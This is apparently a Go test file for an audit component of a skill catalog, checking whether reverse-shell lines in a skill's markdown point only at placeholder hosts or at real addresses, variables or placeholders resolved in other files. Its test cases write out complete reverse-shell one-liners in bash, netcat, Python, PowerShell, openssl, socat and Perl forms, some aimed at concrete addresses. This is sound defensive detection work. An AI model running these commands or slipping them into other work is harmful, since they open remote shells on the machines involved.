package revplace

import (
	"testing"

	"github.com/skillpin/skillpin/internal/catalog/audit/shellcmd"
)

// TestPlaceholder: reverse shells whose every destination is a
// placeholder nothing of the skill gives an address are accepted, in
// each form the package reads; the same line with an address, a
// variable, a form it does not read, or a skill that gives the
// placeholder an address (an assignment, a sentence, a hosts file, an
// env file) is not.
func TestPlaceholder(t *testing.T) {
	for _, tc := range []struct {
		name, line, other string
		want              bool
	}{
		{"bash", "| bash | `bash -i >& /dev/tcp/ATTACKER/PORT 0>&1` |", "", true},
		{"netcat", "`nc -e /bin/sh ATTACKER PORT`", "", true},
		{"python", `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("ATTACKER_IP",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`, "", true},
		{"powershell", `New-Object System.Net.Sockets.TCPClient("LHOST",LPORT) with iex`, "", true},
		{"openssl", "mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | openssl s_client -connect ATTACKER:PORT > /tmp/f", "", true},
		{"angle brackets", "bash -i >& /dev/tcp/<attacker-ip>/4444 0>&1", "", true},
		{"address", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "", false},
		{"host name", "bash -i >& /dev/tcp/relay.example-x.net/443 0>&1", "", false},
		{"variable", "bash -i >& /dev/tcp/$ATTACKER/443 0>&1", "", false},
		{"short word", "bash -i >& /dev/tcp/IP/443 0>&1", "", false},
		{"lower-case name", "bash -i >& /dev/tcp/attacker/443 0>&1", "", false},
		{"second destination", "bash -i >& /dev/tcp/ATTACKER/1 0>&1 || bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "", false},
		{"socat", "socat exec:'bash -li',pty,stderr tcp-connect:ATTACKER:4444", "", true},
		{"unread form", "perl -e 'use Socket;$i=\"ATTACKER\";socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'", "", false},
		{"assigned in a file", "bash -i >& /dev/tcp/ATTACKER/PORT 0>&1", "ATTACKER=edr-lab.relay.net\nPORT=443\n", false},
		{"given in a sentence", "bash -i >& /dev/tcp/ATTACKER/PORT 0>&1", "Replace ATTACKER with relay.example-x.net before running it.\n", false},
		{"given in YAML", "bash -i >& /dev/tcp/ATTACKER/PORT 0>&1", "ATTACKER: relay\n", false},
		{"hosts file", "bash -i >& /dev/tcp/ATTACKER/PORT 0>&1", "echo '203.0.113.9 relay' | sudo tee -a /etc/hosts\n", false},
		{"exported", "bash -i >& /dev/tcp/ATTACKER/PORT 0>&1", "export ATTACKER\n", false},
	} {
		files := []shellcmd.File{{Path: "SKILL.md", Data: []byte("# Shells\n\n" + tc.line + "\n"), Markdown: true}}
		if tc.other != "" {
			files = append(files, shellcmd.File{Path: "config/lab.txt", Data: []byte(tc.other)})
		}
		if got := Placeholder(files, tc.line); got != tc.want {
			t.Errorf("%s: Placeholder = %v, want %v", tc.name, got, tc.want)
		}
	}
}
